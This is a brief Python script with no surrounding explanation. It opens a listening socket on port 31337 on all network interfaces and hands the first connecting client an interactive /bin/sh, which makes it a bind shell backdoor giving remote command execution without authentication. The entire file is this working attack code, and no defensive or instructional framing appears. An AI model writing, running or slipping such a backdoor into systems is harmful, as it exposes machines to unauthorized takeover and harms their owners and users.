import socket
import subprocess

srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, addr = srv.accept()
proc = subprocess.Popen(["/bin/sh"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
proc.wait()
